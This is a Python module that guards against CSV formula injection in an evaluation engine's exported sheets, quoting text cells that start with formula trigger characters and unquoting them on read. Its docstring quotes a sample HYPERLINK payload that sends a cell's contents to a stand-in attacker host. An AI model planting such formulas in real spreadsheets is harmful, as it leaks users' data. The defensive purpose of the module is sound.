"""CSV cells that a spreadsheet cannot run: the one writer-side and reader-side rule for every CSV the engine
writes (leaderboard.csv, review.csv, the localisation review sheet).

Why: criterion texts, model names and replies come from strangers, and a cell such as
`=HYPERLINK("http://evil.example/?x="&A1,"click")` or `@SUM(...)` is a formula when the sheet is opened.
Following OWASP's guidance on CSV injection, a text cell starting with = + - @ tab or carriage return gets a
leading single quote; numbers stay numbers. `cell_value` undoes it on reading, so a sheet the engine wrote
and a human filled in comes back with the original texts (a text already starting with quotes before such a
character gets one more quote, so the rule is reversible).
"""

from __future__ import annotations

import math
from typing import Any

__all__ = ["csv_cell", "csv_row", "cell_value"]

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _formula_like(text: str) -> bool:
    return text.lstrip("'").startswith(_TRIGGERS) and (text[0] in _TRIGGERS or text[0] == "'")


def _number(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


def csv_cell(value: Any) -> Any:
    """`value` as a CSV cell: ints and floats as they are, a text that a spreadsheet would run quoted."""
    if value is None or isinstance(value, (bool, int, float)):
        return value
    text = str(value)
    return "'" + text if _formula_like(text) and not _number(text) else text


def csv_row(values: Any) -> list[Any]:
    return [csv_cell(v) for v in values]


def cell_value(text: Any) -> Any:
    """A cell read back from a CSV the engine wrote: the guarding quote removed (non-text values unchanged)."""
    if isinstance(text, str) and text.startswith("'") and _formula_like(text[1:]) and not _number(text[1:]):
        return text[1:]
    return text
